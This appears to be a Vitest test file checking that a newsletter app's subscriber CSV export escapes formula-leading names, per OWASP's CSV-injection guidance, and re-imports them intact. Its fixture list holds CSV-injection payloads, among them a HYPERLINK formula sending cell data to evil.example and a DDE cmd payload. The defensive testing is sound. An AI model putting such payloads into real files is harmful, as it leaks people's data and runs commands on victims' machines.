import { createWriteStream, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { parse } from "csv-parse/sync";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { exportSubscribers } from "../../src/audience/export-subscribers.js";
import { importSubscribers } from "../../src/audience/import-subscribers.js";
import { openStore, type Store } from "../../src/store/index.js";

const NOW = new Date("2026-05-01T10:00:00Z");

// Names a spreadsheet would run as formulas (OWASP, "CSV Injection"), and some it would not.
const NAMES = [
  '=HYPERLINK("https://evil.example/?d="&A2,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "Plain Name",
  "'already quoted",
  "O'Brien = 1",
];

describe("subscribers export", () => {
  let dir: string;
  let store: Store;
  let listIds: Map<string, number>;

  beforeEach(async () => {
    dir = mkdtempSync(path.join(tmpdir(), "gazette-export-"));
    store = await openStore(dir);
    listIds = await store.subscribers.syncLists([{ id: "weekly", name: "Weekly" }], NOW);
    for (const [i, name] of NAMES.entries()) {
      const { id } = await store.subscribers.upsert(`p${i}@example.com`, name, NOW);
      await store.subscribers.join(listIds.get("weekly") as number, id, {
        status: "active",
        source: "test",
        now: NOW,
      });
    }
  });
  afterEach(() => store.close());

  async function exported(file: string): Promise<string[][]> {
    await exportSubscribers(store, createWriteStream(file));
    return parse(readFileSync(file, "utf8"), { relax_column_count: true }) as string[][];
  }

  it("writes no cell that a spreadsheet would run as a formula (OWASP's rule)", async () => {
    const rows = await exported(path.join(dir, "out.csv"));
    expect(rows[0]).toEqual(["email", "name", "lists", "status"]);
    const names = rows.slice(1).map((row) => row[1] ?? "");
    expect(names).toHaveLength(NAMES.length);
    for (const cell of names) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(names.slice(0, 6)).toEqual(NAMES.slice(0, 6).map((name) => `'${name}`));
    expect(names.slice(6)).toEqual(NAMES.slice(6));
  });

  it("imports its own export back with the names as they were, each as one line", async () => {
    const file = path.join(dir, "out.csv");
    await exported(file);
    const other = await openStore(mkdtempSync(path.join(tmpdir(), "gazette-export-")));
    try {
      const ids = await other.subscribers.syncLists([{ id: "weekly", name: "Weekly" }], NOW);
      const report = await importSubscribers(other.subscribers, file, {
        listIds: ids,
        defaultLists: ["weekly"],
        source: "import",
        now: NOW,
      });
      expect(report).toMatchObject({ added: NAMES.length, invalid: 0 });
      const names = (await other.subscribers.members()).map((m) => m.name);
      // An import keeps a name to one line: the leading tab and carriage return do not come back.
      expect(names).toEqual([...NAMES.slice(0, 4), "=1+1", "=1+1", ...NAMES.slice(6)]);
    } finally {
      await other.close();
    }
  });
});
